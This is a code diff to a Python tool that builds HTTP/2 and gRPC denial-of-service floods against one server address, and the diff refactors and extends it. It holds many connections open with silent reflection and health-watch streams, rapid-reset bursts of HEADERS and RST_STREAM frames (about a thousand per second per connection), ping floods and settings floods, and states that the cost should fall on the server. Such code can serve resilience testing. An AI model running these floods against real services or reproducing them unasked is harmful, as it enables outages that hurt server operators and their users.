@@ -4,6 +4,7 @@ be the server's cost, and not the attacker's.
 A flood keeps COUNT connections to one address. On each it sends its opening words, then, at intervals,
 more; a connection that the server closes is opened again.
 """
+import functools
 import selectors
 import socket
 import struct
@@ -157,6 +158,16 @@ class Flood:
             self._close(selector, one)
 
 
+def silent_streams(address, method, connections=1000, streams=128):
+    return Flood(address, connections, greeting() + calls(method, streams))
+
+
+def resetting(address, method, connections=64):
+    """A thousand calls a second on each connection."""
+    return Flood(address, connections, greeting() + resets(method, 1),
+                 more=lambda _, age: resets(method, 201 + 200 * int(age * 10)), interval_s=0.1)
+
+
 # The kinds of floods, by name: each takes the address and returns a Flood.
 
 def kinds():
@@ -171,8 +182,7 @@ def kinds():
         "silent reflection streams":
             "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
     }
-    found = {name: lambda address, method=method: Flood(address, 1000,
-                                                        greeting() + calls(method, 128))
+    found = {name: lambda address, method=method: silent_streams(address, method)
              for name, method in silent.items()}
     found["health Watch streams"] = lambda address: Flood(
         address, 1000, greeting() + calls("/grpc.health.v1.Health/Watch", 128, message=b""))
@@ -186,11 +196,10 @@ def kinds():
         + calls(exchange, 127, first=3))
     found["watchers of the status"] = lambda address: Flood(
         address, 300, greeting() + calls(coordinator + "WatchStatus", 4, message=b"\x08\x64"))
-    found["calls that are reset at once"] = lambda address: Flood(
-        address, 64, greeting() + b"".join(
-            frame(HEADERS, END_HEADERS, stream, header_block(exchange))
-            + frame(RST_STREAM, 0, stream, bytes(4)) for stream in range(1, 200, 2)),
-        more=resets_on(exchange), interval_s=0.1)
+    for name, method in (("", exchange), (" of unknown methods", "/no.such/Method"),
+                         (" of gRPC's health", "/grpc.health.v1.Health/Check")):
+        found[f"calls{name} that are reset at once"] = (
+            lambda address, method=method: resetting(address, method))
     found["pings"] = lambda address: Flood(address, 64, greeting() + frame(PING, 0, 0, bytes(8)) * 50,
                                            more=lambda _, __: frame(PING, 0, 0, bytes(8)) * 50)
     found["settings"] = lambda address: Flood(
@@ -212,14 +221,12 @@ def kinds():
     return found
 
 
-def resets_on(method):
+@functools.lru_cache(maxsize=4)  # Many connections send the same.
+def resets(method, first):
+    """A hundred calls, each given up at once."""
     block = header_block(method)
-
-    def more(_, age):
-        first = 201 + 200 * int(age * 10)
-        return b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, bytes(4))
-                        for stream in range(first, first + 200, 2))
-    return more
+    return b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, bytes(4))
+                    for stream in range(first, first + 200, 2))
 
 
 def fat_call(method, stream, frames):
